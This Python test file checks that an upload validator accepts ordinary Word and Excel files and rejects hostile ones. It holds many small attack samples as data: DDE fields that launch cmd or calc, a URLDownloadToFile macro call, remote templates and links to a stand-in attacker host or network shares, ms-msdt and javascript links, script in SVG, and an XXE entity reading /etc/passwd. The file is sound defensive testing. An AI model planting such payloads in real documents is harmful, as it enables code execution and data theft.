"""Word and Excel files from upload to decision. What is only about a zip or a formula has its own tests."""

import io
import zipfile

import pytest

from perizinan.files.checks.office_xml import MAX_DEPTH
from perizinan.files.models import Images, State
from perizinan.files.problems import problem_sentence
from tests.perizinan.files import made
from tests.perizinan.files import office_made as office
from tests.perizinan.files.made import EICAR
from tests.perizinan.files.office_made import body, docx, excel, field, formula, ole, rels, svg, word, xlsx, zipped

ALL = ("pdf", "jpg", "png", "webp", "heic", "docx", "xlsx")
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


@pytest.fixture
def verdict(receive, check, scanner):
    def verdict(data, name="a.docx", accept=ALL):
        return check(receive(data, name=name, accept=accept))

    return verdict


HONEST = {
    "smallest": (docx(), "a.docx"),
    "smallest workbook": (xlsx(), "A.XLSX"),
    "as word writes it": (zipped(office.rich_word()), "a.docx"),
    "as excel writes it": (zipped(office.rich_excel()), "a.xlsx"),
    "nothing compressed": (zipped(word(), zipfile.ZIP_STORED), "a.docx"),
    "sizes behind the bytes": (office.streamed(word()), "a.docx"),
    "types at the end": (zipped(dict(reversed(word().items()))), "a.docx"),
    "with a first entry of its own": (zipped({"docProps/": b"", **excel()}), "a.xlsx"),
    "a chart": (docx(office.chart()), "a.docx"),
    "strict edition": (
        zipped(
            {
                key: part.replace(
                    "schemas.openxmlformats.org/officeDocument/2006", "purl.oclc.org/ooxml/officeDocument"
                )
                if isinstance(part, str)
                else part
                for key, part in word().items()
            }
        ),
        "a.docx",
    ),
    "absolute target": (docx({"_rels/.rels": rels(("officeDocument", "/word/document.xml"))}), "a.docx"),
    "drawing with its public type": (
        docx(
            {"word/media/a.svg": svg("<path/>", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://x/svg11.dtd">')}
        ),
        "a.docx",
    ),
    "picture as word on a mac keeps it": (docx({"word/media/image1.pdf": made.pdf()}), "a.docx"),
    "blanks behind": (docx() + bytes(8), "a.docx"),
    "form controls": (
        xlsx(
            {"xl/ctrlProps/ctrlProp1.xml": "<formControlPr objectType='CheckBox'/>"},
            links=[("ctrlProp", "ctrlProp1.xml")],
        ),
        "a.xlsx",
    ),
    "add-in of the shop": (
        docx({"word/webextensions/w1.xml": '<a><reference store="en-US" storeType="OMEX"/></a>'}),
        "a.docx",
    ),
    "nested, as far as tables go": (office.nested(MAX_DEPTH - 3), "a.docx"),
}


@pytest.mark.parametrize(("data", "name"), HONEST.values(), ids=HONEST.keys())
def test_honest(verdict, data, name):
    stored = verdict(data, name)

    assert (stored.state, stored.problem, stored.remarks) == (State.CLEAN, "", [])
    assert stored.content_type.endswith("sheet" if name.lower().endswith("xlsx") else "document")
    assert stored.images == Images.NONE


def linked(kind, target, mode="External"):
    return docx(links=[(kind, target, mode)])


def settings(kind, target):
    return docx(
        {
            "word/settings.xml": body("", root="settings"),
            "word/_rels/settings.xml.rels": rels((kind, target, "External")),
        }
    )


def noted(part, inside, root):
    return docx({f"word/{part}.xml": body(inside, root=root)})


def drawn(inside):
    return docx(inside=f'<w:pict xmlns:v="urn:v" xmlns:o="urn:o">{inside}</w:pict>')


MAIN_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
DDE_LINK = '<externalLink xmlns="urn:s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
STRANGER = '<x:fldChar xmlns:x="urn:x" x:fldCharType="end"/><x:instrText xmlns:x="urn:x">z</x:instrText>'
TWO_FACED = rels(("attachedTemplate", "https://jahat.invalid/a.dotm", "External")).replace(
    "<Relationship ", '<Relationship xmlns:x="urn:x" x:Type="image" x:Target="a.png" x:TargetMode="Internal" '
)
LOCKED = ole("EncryptedPackage", "EncryptionInfo")
HOSTILE = {
    # --- macros
    "macro type": (docx(main=MAIN_MACRO), "macros"),
    "macro type of a workbook": (xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    "macro project": (docx({"word/vbaProject.bin": ole("VBA")}), "macros"),
    "macro project elsewhere": (docx({"a/b/VbaProject.bin": b"x"}), "macros"),
    "macro project under another name": (docx(links=[(f"{MICROSOFT}/vbaProject", "media/image1.png")]), "macros"),
    "macro project by its type": (
        docx({"word/a.dat": b"x"}, defaults={"dat": "application/vnd.ms-office.vbaProject"}),
        "macros",
    ),
    "macro sheet": (xlsx({"xl/macrosheets/sheet1.xml": office.sheet()}), "macros"),
    "macro sheet by its relationship": (xlsx(links=[(f"{MICROSOFT}/xlMacrosheet", "worksheets/sheet1.xml")]), "macros"),
    "dialog sheet": (xlsx(links=[("dialogsheet", "worksheets/sheet1.xml")]), "macros"),
    "opens by itself": (xlsx(names='<definedName name="Auto_Open">Data!$A$1</definedName>'), "macros"),
    "opens by itself, disguised": (
        xlsx(names='<definedName name="_xlnm.auto_OPEN1" hidden="1">Data!$A$1</definedName>'),
        "macros",
    ),
    "name of a macro": (xlsx(names='<definedName name="x" function="1" vbProcedure="1">0</definedName>'), "macros"),
    "old macro call": (xlsx(cells=formula('CALL("urlmon","URLDownloadToFileA","JJ")')), "macros"),
    "keys bound to macros": (docx(links=[(f"{MICROSOFT}/keyMapCustomizations", "customizations.xml")]), "macros"),
    # --- DDE
    "dde": (docx(inside=field(" DDE excel a b ")), "dde"),
    "dde auto in runs": (docx(inside=field(" D", "DEA", "UTO c:\\\\cmd.exe ")), "dde"),
    "dde in a simple field": (docx(inside='<w:p><w:fldSimple w:instr=" ddeauto cmd "/></w:p>'), "dde"),
    "dde in a footnote": (noted("footnotes", field("DDEAUTO x"), "footnotes"), "dde"),
    "dde in a header": (noted("header1", field('"DDE" x'), "hdr"), "dde"),
    "dde in an unlisted part": (docx({"x/y.dat": body(field("DDEAUTO x"))}), "dde"),
    "dde spelled by a field": (docx(inside=office.nested_field()), "dde"),
    "dde never closed": (docx(inside='<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + office.runs("DDE x")), "dde"),
    "dde without a field": (docx(inside=office.runs("DDE", "AUTO x")), "dde"),
    "dde in a workbook": (xlsx({"xl/externalLinks/externalLink1.xml": DDE_LINK}), "dde"),
    "dde formula": (xlsx(cells=formula("cmd|'/c calc'!A0")), "dde"),
    "dde formula in a name": (xlsx(names="<definedName name='x'>MSEXCEL|'\\..\\cmd'!A0</definedName>"), "dde"),
    "dde of libreoffice": (xlsx(cells=formula('DDE("soffice";"a";"b")')), "dde"),
    "dde in a rule": (
        xlsx(after="<conditionalFormatting><cfRule><formula>cmd|'x'!A0</formula></cfRule></conditionalFormatting>"),
        "dde",
    ),
    "dde cut by a stranger": (
        docx(
            inside=field("D", "").replace(
                '<w:r><w:instrText xml:space="preserve"></w:instrText></w:r>', STRANGER + office.runs("DE x")
            )
        ),
        "dde",
    ),
    "dde behind white space": (
        docx({"word/x.dat": " " * 300 + body(field("DDE x")).partition("?>")[2]}, defaults={"dat": "application/xml"}),
        "dde",
    ),
    # --- what loads by itself
    "template behind a stranger's attributes": (docx({"word/_rels/settings.xml.rels": TWO_FACED}), "loads-outside"),
    "template of the net": (settings("attachedTemplate", "https://jahat.invalid/a.dotm"), "loads-outside"),
    "template of a share": (settings("attachedTemplate", "file://///jahat/a.dotm"), "loads-outside"),
    "template as a hyperlink": (settings("hyperlink", "https://jahat.invalid/a.dotm"), "loads-outside"),
    "linked object": (linked("oleObject", "https://jahat.invalid/a.rtf"), "loads-outside"),
    "linked picture": (linked("image", "https://jahat.invalid/a.png"), "loads-outside"),
    "linked picture on a share": (linked("image", "\\\\jahat\\a.png"), "loads-outside"),
    "linked picture, mode in capitals": (linked("image", "a.png", "EXTERNAL"), "loads-outside"),
    "linked picture without a mode": (docx(links=[("image", "https://jahat.invalid/a.png")]), "loads-outside"),
    "frame": (
        docx({"word/_rels/webSettings.xml.rels": rels(("frame", "https://jahat.invalid", "External"))}),
        "loads-outside",
    ),
    "sub-document": (linked("subDocument", "\\\\jahat\\a.docx"), "loads-outside"),
    "letters from a database": (settings("mailMergeSource", "file:///C:\\a.mdb"), "loads-outside"),
    "other workbook": (
        xlsx({"xl/externalLinks/_rels/e.xml.rels": rels(("externalLinkPath", "file:///C:\\a.xlsx", "External"))}),
        "loads-outside",
    ),
    "picture by a field": (docx(inside=field(' INCLUDEPICTURE "https://jahat.invalid/a.png" \\d ')), "loads-outside"),
    "text by a field": (docx(inside=field(" INCLUDE", 'TEXT "\\\\\\\\jahat\\\\a" ')), "loads-outside"),
    "old drawing": (drawn('<v:imagedata src="https://jahat.invalid/a.png"/>'), "loads-outside"),
    "old drawing in a sheet": (xlsx({"xl/a.vml": '<xml><br><v:fill src="//jahat/a"></xml>'}), "loads-outside"),
    "old linked object": (drawn('<o:OLEObject Type="Link" ProgID="Word.Document.8"/>'), "loads-outside"),
    "web service": (xlsx(cells=formula('_xlfn.WEBSERVICE("https://jahat.invalid/"&amp;A1)')), "loads-outside"),
    "picture by a formula": (xlsx(cells=formula('_xlfn.IMAGE("https://jahat.invalid/a.png")')), "loads-outside"),
    "database": (
        xlsx({"xl/connections.xml": '<connections><connection><dbPr connection="x"/></connection></connections>'}),
        "loads-outside",
    ),
    "add-in of a share": (
        docx({"word/webextensions/w1.xml": '<a><reference store="\\\\jahat" storeType="Filesystem"/></a>'}),
        "loads-outside",
    ),
    # --- links to click that lead to programs
    "link to a file": (linked("hyperlink", "file:///C:/Windows/System32/calc.exe"), "unsafe-link"),
    "link to a share": (linked("hyperlink", "\\\\jahat\\bagi"), "unsafe-link"),
    "link to a share, escaped": (linked("hyperlink", "%5C%5Cjahat%5Cbagi"), "unsafe-link"),
    "link to a script": (linked("hyperlink", "java&#10;script:alert(1)"), "unsafe-link"),
    "link to a handler": (linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), "unsafe-link"),
    "link to a program beside it": (linked("hyperlink", "Lampiran.pdf.exe"), "unsafe-link"),
    "link to a share by a field": (docx(inside=field(' HYPERLINK "file://jahat/a" ')), "unsafe-link"),
    "link to a share by a formula": (xlsx(cells=formula('HYPERLINK("\\\\jahat\\a","Klik")')), "unsafe-link"),
    # --- what acts
    "activex": (docx({"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:ax'/>"}), "office-active"),
    "activex by its relationship": (docx(links=[("control", "media/a.xml")]), "office-active"),
    "activex by its root": (docx({"word/a.xml": "<ax:ocx xmlns:ax='urn:ax'/>"}), "office-active"),
    "ribbon": (docx({"_rels/x.rels": rels((f"{MICROSOFT}/ui/extensibility", "a.xml"))}), "office-active"),
    "click runs a program": (
        docx(inside='<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>'),
        "office-active",
    ),
    "script in a drawing": (docx({"word/media/a.svg": svg("<script>alert(1)</script>")}), "office-active"),
    "handler in a drawing": (docx({"word/media/a.svg": svg('<path onload="alert(1)"/>')}), "office-active"),
    "script in a drawing by its type": (
        docx({"word/a.dat": svg("<script/>")}, overrides={"word/a.dat": "image/svg+xml"}),
        "office-active",
    ),
    "page in a drawing": (docx({"word/media/a.svg": svg("<foreignObject/>")}), "office-active"),
    "drawing that fetches": (
        docx({"word/media/a.svg": svg('<image xlink:href="https://jahat.invalid/a"/>')}),
        "loads-outside",
    ),
    # --- what is inside
    "old object": (docx({"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}), "office-embedded"),
    "program inside": (docx({"word/media/image1.png": b"MZ\x90" + bytes(300)}), "office-embedded"),
    "script inside": (docx({"word/embeddings/a.vbs": b"x"}), "office-embedded"),
    "page inside": (docx(inside='<w:altChunk r:id="rId2"/>'), "office-embedded"),
    "page inside by its relationship": (docx(links=[("aFChunk", "a.dat")]), "office-embedded"),
    "rtf inside": (docx({"word/a.dat": b"{\\rtf1}"}), "office-embedded"),
    "zip inside": (docx({"word/media/image1.png": made.zipped(data=b"x")}), "office-embedded"),
    "hostile picture of a mac": (
        docx({"word/media/a.pdf": made.pdf(made.opens_with(made.javascript))}),
        "office-embedded",
    ),
    "macros in a workbook inside": (docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}), "macros"),
    "macro workbook inside": (
        docx({"word/embeddings/a.xlsx": xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")}),
        "macros",
    ),
    "dde in a workbook inside": (docx({"word/embeddings/a.xlsx": xlsx(cells=formula("cmd|'x'!A0"))}), "dde"),
    "too deep inside": (docx({"a.docx": docx({"b.docx": docx({"c.docx": docx()})})}), "office-too-complex"),
    # --- XML that grows
    "entities": (office.with_document_type(), "office-too-complex"),
    "entities in utf-16": (office.with_document_type(encoding="utf-16"), "office-too-complex"),
    "document type alone": (office.with_document_type("<!DOCTYPE w:document>"), "office-too-complex"),
    "file by an entity": (
        office.with_document_type('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "office-too-complex",
    ),
    "entities in the types": (docx({"[Content_Types].xml": office.LAUGHS + "<Types/>"}), "office-too-complex"),
    "entities in a drawing": (
        docx({"word/media/a.svg": svg("", '<!DOCTYPE svg [<!ENTITY x "y">]>')}),
        "office-too-complex",
    ),
    "endless nesting": (office.nested(MAX_DEPTH), "office-too-complex"),
    "thousands of attributes": (
        docx(inside="<w:p " + " ".join(f'a{n}="1"' for n in range(2000)) + "/>"),
        "office-too-complex",
    ),
    "broken xml": (docx({"word/document.xml": "<w:document>"}), "damaged"),
    # --- not what it says
    "locked": (LOCKED, "encrypted-office"),
    "old word": (ole("WordDocument"), "wrong-type"),
    "rtf": (b"{\\rtf1\\ansi halo}", "wrong-type"),
    "page of html": (b"<html><script>alert(1)</script></html>", "wrong-type"),
    "program": (b"MZ\x90\0" + bytes(300), "wrong-type"),
    "zip": (made.zipped(data=b"x"), "wrong-type"),
    "slides": (
        docx(main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        "wrong-type",
    ),
    "opendocument": (
        zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, zipfile.ZIP_STORED),
        "wrong-type",
    ),
    "java": (zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "wrong-type"),
    "android": (zipped({"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex\n"}), "wrong-type"),
    "types contradict": (
        docx(
            {"[Content_Types].xml": office.types({"word/document.xml": office.WORD, "Word/document.xml": MAIN_MACRO})}
        ),
        "damaged",
    ),
}


@pytest.mark.parametrize(("data", "problem"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile(verdict, data, problem):
    stored = verdict(data, "a.xlsx" if is_workbook(data) else "a.docx")

    assert (stored.state, stored.problem) == (State.REJECTED, problem)
    assert "%(" not in problem_sentence(stored.problem, stored.facts)


def is_workbook(data):
    return data[:2] == b"PK" and "xl/workbook.xml" in zipfile.ZipFile(io.BytesIO(data)).namelist()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (xlsx(), "a.docx"),
        (docx(), "a.xlsx"),
        (docx(), "a.pdf"),
        (docx(), "a.jpg"),
        (made.photo(), "a.docx"),
        (made.pdf(), "a.docx"),
    ],
)
def test_another_kind_than_the_name_says(verdict, data, name):
    assert verdict(data, name).problem == "mismatch"


def test_office_files_only_where_a_requirement_says_so(verdict):
    assert verdict(docx(), "a.pdf", accept=("pdf", "jpg")).problem == "wrong-type"
    assert verdict(xlsx(), "a.docx", accept=("docx",)).problem == "wrong-type"
    assert verdict(made.pdf(), "a.docx", accept=("docx",)).problem == "wrong-type"
    assert verdict(docx(), "a.docx", accept=("docx",)).state == State.CLEAN


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/media/image1.png": EICAR}),
        docx({"word/embeddings/oleObject1.bin": ole("x") + EICAR}),
        docx({"word/embeddings/a.xlsx": xlsx({"xl/media/a.png": EICAR})}),
        docx({"word/media/a.pdf": made.pdf(made.attached(EICAR))}),
    ],
    ids=["as a picture", "in an old object", "in a workbook inside", "attached to a picture of a mac"],
)
def test_a_virus_inside_outranks_all(verdict, data):
    assert verdict(data).problem == "infected"
